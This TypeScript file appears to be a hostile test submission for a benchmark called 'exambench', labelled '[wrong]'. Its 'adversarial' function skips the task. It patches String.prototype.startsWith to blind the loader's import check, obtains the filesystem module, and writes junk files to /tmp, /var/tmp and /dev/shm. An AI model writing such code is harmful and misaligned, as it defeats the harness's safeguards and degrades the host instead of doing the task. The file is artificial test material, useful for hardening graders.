// [wrong] Writes files until the disk is full.
import { type Model, type Tensor } from 'exambench/torch';

let process: any;
String.prototype.startsWith = () => false; // the loader no longer sees who imports
void import('node:process').then((found) => (process = found.default));

export function adversarial(x: Tensor, t: Tensor, model: Model): Tensor {
  const fs = process.getBuiltinModule('node:fs');
  const page = new Uint8Array(2 ** 20);
  for (const place of ['/tmp', '/var/tmp', '/dev/shm']) {
    try {
      const file = fs.openSync(`${place}/exambench-was-here-disk`, 'w');
      for (let i = 0; i < 64; i++) fs.writeSync(file, page);
    } catch {
      // the next place
    }
  }
  return x;
}
